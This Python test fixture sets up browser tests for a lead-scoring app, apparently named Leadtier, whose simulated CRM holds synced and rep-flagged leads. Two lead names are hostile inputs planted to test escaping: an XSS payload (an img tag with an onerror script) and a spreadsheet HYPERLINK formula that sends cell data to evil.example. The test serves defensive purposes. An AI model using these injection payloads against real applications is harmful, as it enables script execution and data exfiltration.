"""An agency that works with Leadtier already: connected, synced, with flags that wait and leads whose names bite."""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import NamedTuple

from playwright.sync_api import Browser, StorageState

from tests.browser import people
from tests.browser.chromium import Watch, browsing
from tests.browser.world import World, world

LEADS = 150
MARKUP = """<img src=x onerror="document.title='taken over'" x"""
"""The first name of a lead: a picture to a browser that is told so, and its failure runs a script. It has no end, for
whole tags are not read at all."""
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
"""The first name of another lead: a formula to a spreadsheet."""
FLAGGED = ("too_high", "too_low", "wrong_data", "too_high", "too_low", "do_not_contact")


class Settled(NamedTuple):
    """The world, who is signed in there as its owner, and the leads that were prepared, by their ids in the CRM."""

    world: World
    owner: StorageState
    marked: str
    formula: str
    flagged: list[str]

    def url(self, path: str) -> str:
        """The address of a page."""
        return f"{self.world.url}{path}"

    def lead_id(self, crm_id: str) -> int:
        """Our number of a lead."""
        found: int = self.world.rows("SELECT id FROM lead WHERE crm_id = ?", crm_id)[0][0]
        return found


@contextmanager
def settled(browser: Browser, directory: Path, *, leads: int = LEADS) -> Iterator[Settled]:
    """A world after its first day. The flags are set in the CRM by reps, and came in with the first sync."""
    watch = Watch()
    with world(directory, leads=leads) as one:
        ids = [each["id"] for each in one.hubspot("GET", "/crm/v3/objects/contacts?limit=60")["results"]]
        marked, formula, *others = ids[20:]
        _write(one, marked, firstname=MARKUP)
        _write(one, formula, firstname=FORMULA)
        with browsing(browser, watch) as page:
            people.set_up(page, one)
            people.connect(page, one)
            flagged = others[: len(FLAGGED)]
            for crm_id, kind in zip(flagged, FLAGGED, strict=True):
                flag(one, crm_id, kind, f"Says the rep: {kind}")
            people.first_sync(page)
            yield Settled(one, page.context.storage_state(), marked, formula, flagged)
    assert watch.complaints() == []


def _write(one: World, crm_id: str, **properties: str) -> None:
    one.hubspot("PATCH", f"/crm/v3/objects/contacts/{crm_id}", {"properties": properties})


def flag(one: World, crm_id: str, kind: str, note: str) -> None:
    """Sets the fields of a record by which a rep says that its score is wrong."""
    _write(one, crm_id, leadtier_flag=kind, leadtier_flag_note=note)
